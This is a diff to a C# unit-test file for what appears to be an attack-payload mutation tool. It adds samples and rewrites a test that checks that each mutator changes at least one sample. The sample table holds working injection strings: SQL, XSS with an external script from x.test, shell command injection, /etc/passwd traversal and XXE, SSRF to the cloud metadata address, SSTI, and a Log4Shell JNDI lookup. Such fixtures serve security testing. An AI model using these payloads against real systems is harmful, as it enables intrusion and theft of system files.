@@ -17,10 +17,10 @@ public sealed class MutatorsTests
     /// <summary>One text of each class that gives most mutators something to do.</summary>
     private static readonly (AttackClass Class, string Text)[] s_samples =
     [
-        (AttackClass.Sqli, Sql), (AttackClass.Sqli, "1 OR sleep(5)#"), (AttackClass.Xss, Html), (AttackClass.Xss, "<a href=\"javascript:alert('x')\">x</a>"),
+        (AttackClass.Sqli, Sql), (AttackClass.Sqli, "1 OR sleep(5)#"), (AttackClass.Xss, Html), (AttackClass.Xss, "<a href=\"javascript:alert('x')\">x</a>"), (AttackClass.Xss, "<script src=\"//x.test/a.js\"></script>"),
         (AttackClass.Rce, ";cat /etc/passwd"), (AttackClass.Rce, "$(id)"), (AttackClass.Rce, "`whoami`"), (AttackClass.Traversal, "../../etc/passwd"), (AttackClass.Traversal, "/etc/passwd"),
         (AttackClass.Ssrf, "http://127.0.0.1/admin"), (AttackClass.Ssrf, "http://169.254.169.254/latest/meta-data/"),
-        (AttackClass.Ssti, "{{7*7}}"), (AttackClass.Ssti, "{{''.__class__.__mro__['popen']}}"),
+        (AttackClass.Ssti, "{{7*7}}"), (AttackClass.Ssti, "{{''.__class__.__mro__['popen']['__init__']}}"),
         (AttackClass.Xxe, "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
         (AttackClass.Nosqli, "{\"user\":{\"$ne\":1}}"), (AttackClass.Nosqli, "a[$ne]=1"), (AttackClass.Nosqli, "' || 1==1 //"),
         (AttackClass.Ldapi, "*)(uid=*))(|(objectClass=*"), (AttackClass.Log4shell, "${jndi:ldap://x.test/a}"), (AttackClass.Other, "php://filter/resource=index.php"),
@@ -33,11 +33,11 @@ public sealed class MutatorsTests
     [Fact]
     public void Apply_EachMutator_ChangesAtLeastOneSample()
     {
-        foreach (Mutator mutator in Mutators.All)
-        {
-            s_samples.Any(s => mutator.AppliesTo(s.Class) && Enumerable.Range(0, 20).Any(i => mutator.Apply(s.Text, new SeededRandom((ulong)i)) is not null))
-                .ShouldBeTrue(mutator.Name);
-        }
+        string[] idle = [.. Mutators.All.ToArray()
+            .Where(static m => !s_samples.Any(s => m.AppliesTo(s.Class) && Enumerable.Range(0, 20).Any(i => m.Apply(s.Text, new SeededRandom((ulong)i)) is not null)))
+            .Select(static m => m.Name)];
+
+        idle.ShouldBeEmpty();
     }
 
     [Fact]
